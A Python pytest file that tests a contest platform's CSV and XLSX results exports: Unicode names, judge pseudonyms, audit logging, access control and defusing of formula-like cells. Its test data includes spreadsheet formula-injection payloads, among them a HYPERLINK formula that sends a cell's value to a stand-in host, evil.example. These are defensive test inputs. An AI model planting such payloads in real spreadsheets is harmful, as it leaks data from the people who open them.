"""The results exports (a round's full results, the winners) as CSV and XLSX, from the
organizer's pages and from the command line: Vietnamese intact, formulas inert, judges
pseudonymised unless named, numbers as numbers, every export audited, organizers only."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import dataclass

import openpyxl
import pytest
from flask_babel import force_locale
from sqlalchemy import select

from contest import create_app
from contest.audit.models import AuditEvent
from contest.auth.models import Role
from contest.contests.demo import build_demo_contest
from contest.extensions import db as db_ext
from contest.jury.models import Round, RoundKind
from contest.jury.rounds import open_round
from contest.jury.scores import Judgement, save_judgement, save_ranking
from contest.results.awards import SlotSpec, assign, save_slot
from contest.results.export_files import formula_like
from contest.results.exports import round_table
from contest.results.prizes import PrizeKind
from contest.results.readout import round_sheet
from contest.results.tally import tally
from tests.browser import live_server
from tests.jury_support import Jury, assignments, build_jury, new_round
from tests.support import PASSWORD, create_user, log_in, make_test_config, migrate

EN = {"Accept-Language": "en"}
HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&B2,"Xem")', "+1", "-2", "@SUM(A1:A9)", "\tTab")
JUDGE_NAMES = ("Trần Văn Giám", "Lê Thị Khảo", "Phạm Minh Chấm")


@dataclass
class Scene:
    jury: Jury
    round: Round


@pytest.fixture
def scene(db, contest) -> Scene:
    """A score round, every judgement given; Vietnamese authors, titles that look like formulas."""
    jury = build_jury(db, contest, judges=3, entries_each=3)
    jury.entrants[0].full_name = "Nguyễn Thị Hoà"
    jury.entrants[1].full_name = "Đồng Văn Lâm"
    for judge, name in zip(jury.judges, JUDGE_NAMES, strict=True):
        judge.full_name = name
    for entry, title in zip(jury.entries, HOSTILE, strict=False):
        entry.title = title
    jury.entries[len(HOSTILE)].title = "Hoàng hôn trên sông Lam"
    round_ = new_round(db, jury, quorum=2)
    open_round(db, round_, actor_id=None, seed=7)
    content, technique = round_.criteria
    for n, a in enumerate(assignments(db, round_)):
        values = {content.id: (n * 3 % 21) / 2, technique.id: float(1 + n % 5)}
        save_judgement(db, a.id, a.judge_id, Judgement(values=values))
    db.commit()
    return Scene(jury, round_)


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_sheet(body: bytes):
    book = openpyxl.load_workbook(io.BytesIO(body))
    return book[book.sheetnames[0]]


def exports(db, action: str) -> list[AuditEvent]:
    return list(db.scalars(select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)))


def by_code(header, rows) -> dict[str, dict]:
    return {row[header.index("Code")]: dict(zip(header, row, strict=True)) for row in rows}


def test_formula_like_cells():
    assert all(formula_like(text) for text in (*HOSTILE, "\rx"))
    assert not any(formula_like(value) for value in ("Sen quê Bác", "a=b", -2, 1.5, None, ""))


def test_round_csv_keeps_vietnamese_defuses_formulas_and_hides_the_judges(client, db, scene, organizer):
    log_in(client, organizer)
    response = client.get(f"/admin/results/rounds/{scene.round.id}/export.csv", headers=EN)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert f"{scene.jury.contest.slug}-round-{scene.round.id}-results.csv" in disposition
    rows = csv_rows(response.data)
    header, table = rows[0], by_code(rows[0], rows[1:])
    assert header[-3:] == ["Judge A", "Judge B", "Judge C"]
    assert len(table) == len(scene.jury.entries)
    titles = {row["Title"] for row in table.values()}
    assert {"'" + text for text in HOSTILE} <= titles  # an apostrophe in front: text, not a formula
    assert "Hoàng hôn trên sông Lam" in titles
    assert {"Nguyễn Thị Hoà", "Đồng Văn Lâm"} <= {row["Author"] for row in table.values()}
    own = scene.jury.entries[-1].code  # the first judge's own entry names them as its author
    others = [cell for row in rows if own not in row for cell in row]
    assert not any(name in cell for name in JUDGE_NAMES for cell in others)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)


def test_round_figures_are_the_tally(client, db, scene, organizer):
    log_in(client, organizer)
    rows = csv_rows(client.get(f"/admin/results/rounds/{scene.round.id}/export.csv", headers=EN).data)
    header, body = rows[0], rows[1:]
    sheet, _ = round_sheet(db, scene.round.id)
    expected = [(str(r.place), r.entry, round(r.figure, 6), r.judges) for r in tally(sheet).rows]
    place, code, figure, judges = (header.index(h) for h in ("Rank", "Code", "Final figure", "Judges"))
    got = [(row[place], row[code], float(row[figure]), int(row[judges])) for row in body]
    assert got == expected
    assert all(int(row[judges]) == sum(cell != "" for cell in row[-3:]) for row in body)


def test_round_xlsx_numbers_are_numbers_and_formulas_are_plain_text(client, db, scene, organizer):
    log_in(client, organizer)
    response = client.get(f"/admin/results/rounds/{scene.round.id}/export.xlsx", headers=EN)
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert (
        f"{scene.jury.contest.slug}-round-{scene.round.id}-results.xlsx"
        in response.headers["Content-Disposition"]
    )
    sheet = xlsx_sheet(response.data)
    cells = list(sheet.iter_rows())
    header = [c.value for c in cells[0]]
    rows = {row[header.index("Code")].value: row for row in cells[1:]}
    assert header[-3:] == ["Judge A", "Judge B", "Judge C"]
    for row in rows.values():
        assert row[header.index("Rank")].data_type == "n" and isinstance(row[0].value, int)
        assert isinstance(row[header.index("Final figure")].value, int | float)
        judged = [c for c in row[-3:] if c.value is not None]
        assert judged and all(c.data_type == "n" and isinstance(c.value, int | float) for c in judged)
    titles = {row[header.index("Title")].value: row[header.index("Title")] for row in rows.values()}
    for text in HOSTILE:  # shown as typed, a string with Excel's quote prefix: never run
        assert titles[text].data_type == "s" and titles[text].quotePrefix
    assert "Nguyễn Thị Hoà" in {row[header.index("Author")].value for row in rows.values()}
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula in the whole sheet
    assert not any(name in c.value for name in JUDGE_NAMES for c in cells[0])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_judges_named_on_request(client, db, scene, organizer, fmt):
    log_in(client, organizer)
    response = client.get(f"/admin/results/rounds/{scene.round.id}/export.{fmt}?names=1", headers=EN)
    header = (
        csv_rows(response.data)[0]
        if fmt == "csv"
        else [c.value for c in next(xlsx_sheet(response.data).rows)]
    )
    assert header[-3:] == list(JUDGE_NAMES)  # in the order they joined the jury: A, B, C
    assert "Judge A" not in header


def judged_round(db, contest, kind: RoundKind) -> Round:
    """A yes/no or ranking round with every judgement given."""
    jury = build_jury(db, contest, judges=3, entries_each=2)
    round_ = new_round(db, jury, kind, quorum=2)
    open_round(db, round_, actor_id=None, seed=3)
    held: dict[int, list[int]] = {}
    for n, a in enumerate(assignments(db, round_)):
        held.setdefault(a.judge_id, []).append(a.id)
        if kind is RoundKind.yes_no:
            save_judgement(db, a.id, a.judge_id, Judgement(verdict=n % 3 != 0))
    if kind is RoundKind.ranking:
        for judge_id, ids in held.items():
            save_ranking(db, round_.id, judge_id, list(reversed(ids)))
    db.commit()
    return round_


@pytest.mark.parametrize("kind", [RoundKind.yes_no, RoundKind.ranking])
def test_yes_no_and_ranking_rounds(app_ctx, db, contest, kind):
    round_ = judged_round(db, contest, kind)
    with force_locale("en"):
        table = round_table(db, round_.id)
        rows = list(table.rows)
    header = list(table.header)
    expected = tally(round_sheet(db, round_.id)[0])
    assert [(row[0], row[1]) for row in rows] == [(r.place, r.entry) for r in expected.rows]
    judges = [h for h in header if h.startswith("Judge ")]
    assert judges == ["Judge A", "Judge B", "Judge C"]
    marks = [v for row in rows for v in row[-3:] if v is not None]
    assert marks and all(isinstance(v, int) for v in marks)  # 1/0 for yes/no, the rank for ranking
    if kind is RoundKind.yes_no:
        yes = header.index("Yes")
        assert [row[yes] for row in rows] == [r.yes for r in expected.rows]
        assert all(row[yes] == sum(row[-3:][i] or 0 for i in range(3)) for row in rows)
    else:
        assert "Yes" not in header and "Raw mean" not in header


def test_every_export_is_an_audit_event(client, db, scene, organizer):
    log_in(client, organizer)
    for query in ("export.csv", "export.xlsx?names=1"):
        assert client.get(f"/admin/results/rounds/{scene.round.id}/{query}").status_code == 200
    contest = scene.jury.contest
    assert client.get(f"/admin/results/contests/{contest.id}/winners.csv").status_code == 200
    rounds = exports(db, "results.round_exported")
    assert [(e.actor_id, e.subject_id, e.contest_id) for e in rounds] == [
        (organizer.id, scene.round.id, contest.id)
    ] * 2
    assert [(e.details["format"], e.details["judges"], e.details["via"]) for e in rounds] == [
        ("csv", "pseudonyms", "web"),
        ("xlsx", "names", "web"),
    ]
    assert rounds[0].details["rows"] == len(scene.jury.entries)
    [winners] = exports(db, "results.winners_exported")
    assert (winners.actor_id, winners.subject_type, winners.subject_id) == (
        organizer.id,
        "contest",
        contest.id,
    )


def give_first_prize(db, scene, entry) -> str:
    contest, organizer = scene.jury.contest, scene.jury.organizer
    spec = SlotSpec(PrizeKind.jury, entry.category_id, "Giải Nhất", "First prize", 1, 0)
    slot = save_slot(db, contest, spec, actor_id=organizer.id)
    assign(db, contest, slot, 1, entry.code, "Hội đồng quyết định", actor_id=organizer.id)
    db.commit()
    return entry.code


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_winners_and_the_prize_column(client, db, scene, organizer, fmt):
    code = give_first_prize(db, scene, scene.jury.entries[0])
    log_in(client, organizer)
    contest = scene.jury.contest
    response = client.get(f"/admin/results/contests/{contest.id}/winners.{fmt}", headers=EN)
    assert f"{contest.slug}-winners.{fmt}" in response.headers["Content-Disposition"]
    if fmt == "csv":
        rows = csv_rows(response.data)
    else:
        rows = [[c.value for c in row] for row in xlsx_sheet(response.data).iter_rows()]
    header, winners = rows[0], rows[1:]
    assert header == ["Prize", "Rank", "Code", "Title", "Category", "Author", "E-mail", "Country"]
    assert len(winners) == 1
    winner = dict(zip(header, winners[0], strict=True))
    assert winner["Prize"] == "First prize" and winner["Code"] == code
    assert winner["Author"] == "Nguyễn Thị Hoà" and winner["E-mail"] == "tac.gia0@example.com"
    assert winner["Rank"] == (1 if fmt == "xlsx" else "1")
    assert winner["Title"] == ("'" if fmt == "csv" else "") + HOSTILE[0]
    round_rows = csv_rows(client.get(f"/admin/results/rounds/{scene.round.id}/export.csv", headers=EN).data)
    table = by_code(round_rows[0], round_rows[1:])
    assert table[code]["Prize"] == "First prize"
    assert {row["Prize"] for c, row in table.items() if c != code} == {""}


def test_bad_requests_are_404(client, db, scene, organizer):
    log_in(client, organizer)
    assert client.get("/admin/results/rounds/987654/export.csv").status_code == 404
    assert client.get(f"/admin/results/rounds/{scene.round.id}/export.pdf").status_code == 404
    assert client.get("/admin/results/contests/987654/winners.xlsx").status_code == 404
    assert exports(db, "results.round_exported") == []


ROUTES = [
    "/admin/results/exports",
    "/admin/results/rounds/{round}/export.csv",
    "/admin/results/rounds/{round}/export.xlsx?names=1",
    "/admin/results/contests/{contest}/winners.csv",
    "/admin/results/contests/{contest}/winners.xlsx",
]


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize(
    ("role", "expected"), [("anonymous", 302), ("entrant", 403), ("judge", 403), ("organizer", 200)]
)
def test_access_matrix(request, client, db, scene, route, role, expected):
    if role != "anonymous":
        log_in(client, request.getfixturevalue(role))
    response = client.get(route.format(round=scene.round.id, contest=scene.jury.contest.id), headers=EN)
    assert response.status_code == expected
    if role == "anonymous":
        assert response.headers["Location"].startswith("/account/login")
    audited = db.scalar(select(AuditEvent.id).where(AuditEvent.action.like("results.%_exported")))
    download = route != "/admin/results/exports"
    assert (audited is not None) == (expected == 200 and download)


def test_the_exports_page_links_every_round(client, db, scene, organizer):
    log_in(client, organizer)
    text = client.get("/admin/results/exports", headers=EN).get_data(as_text=True)
    assert f"/admin/results/rounds/{scene.round.id}/export.xlsx?names=1" in text
    assert f"/admin/results/contests/{scene.jury.contest.id}/winners.csv" in text


def run_cli(app, *args):
    return app.test_cli_runner().invoke(args=["contest", *map(str, args)])


def test_cli_exports_a_round_with_a_progress_bar(app, db, scene, tmp_path):
    out = tmp_path / "vong-1.xlsx"
    result = run_cli(app, "export-results", scene.round.id, "--format", "xlsx", "--out", out, "--lang", "en")
    assert result.exit_code == 0, result.output
    assert (
        f"{scene.jury.contest.slug}-round-{scene.round.id}-results.xlsx" in result.output
    )  # the bar's label
    assert f"{len(scene.jury.entries)} rows written to {out}" in result.output
    assert not out.with_name(out.name + ".part").exists()
    sheet = xlsx_sheet(out.read_bytes())
    header = [c.value for c in next(sheet.rows)]
    assert header[-3:] == ["Judge A", "Judge B", "Judge C"]
    assert sheet.max_row == len(scene.jury.entries) + 1
    [event] = exports(db, "results.round_exported")
    assert (event.actor_id, event.details["via"], event.details["format"]) == (None, "cli", "xlsx")
    assert event.details["operator"]


def test_cli_names_the_judges_and_exports_the_winners(app, db, scene, tmp_path):
    code = give_first_prize(db, scene, scene.jury.entries[4])
    named = tmp_path / "named.csv"
    result = run_cli(app, "export-results", scene.round.id, "--out", named, "--names", "--lang", "en")
    assert result.exit_code == 0, result.output
    assert csv_rows(named.read_bytes())[0][-3:] == list(JUDGE_NAMES)
    winners = tmp_path / "giai.csv"
    slug = scene.jury.contest.slug
    result = run_cli(app, "export-winners", "--contest", slug, "--out", winners, "--lang", "vi")
    assert result.exit_code == 0, result.output
    rows = csv_rows(winners.read_bytes())
    assert rows[0][0] == "Giải thưởng" and rows[1][:3] == ["Giải Nhất", "1", code]
    assert [e.details["judges"] for e in exports(db, "results.round_exported")] == ["names"]
    assert len(exports(db, "results.winners_exported")) == 1


def test_cli_refuses_an_unknown_round_and_writes_nothing(app, db, scene, tmp_path):
    out = tmp_path / "none.csv"
    result = run_cli(app, "export-results", 987654, "--out", out)
    assert result.exit_code != 0 and "there is no round 987654" in result.output
    assert not out.exists() and exports(db, "results.round_exported") == []


@pytest.mark.browser
def test_the_exports_page_on_a_phone(tmp_path, browser_page):
    """390 px wide in headless Chromium: nothing wider than the screen, no policy violation."""
    config = make_test_config(tmp_path, f"sqlite:///{tmp_path / 'site.sqlite'}")
    migrate(config["DATABASE_URL"])
    app = create_app(config)
    with app.app_context():
        contest, _ = build_demo_contest(db_ext.session)
        jury = build_jury(db_ext.session, contest, judges=2, entries_each=1)
        new_round(db_ext.session, jury, RoundKind.yes_no, name_en="Vòng sơ khảo ảnh và video dài tên")
        create_user(db_ext.session, "btc@example.com", role=Role.organizer, birth_year=None, locale="en")
        db_ext.session.commit()
    page = browser_page.page
    try:
        with live_server(app) as url:
            page.goto(f"{url}/account/login", wait_until="load")
            page.fill("input[name=email]", "btc@example.com")
            page.fill("input[name=password]", PASSWORD)
            page.locator("form [type=submit]").last.click()
            page.wait_for_load_state("load")
            page.goto(f"{url}/admin/results/exports", wait_until="load")
            assert re.search(r"Results exports", page.content())
            assert page.evaluate("document.documentElement.scrollWidth") <= 390
        assert browser_page.problems() == []
    finally:
        app.extensions["db"].dispose()
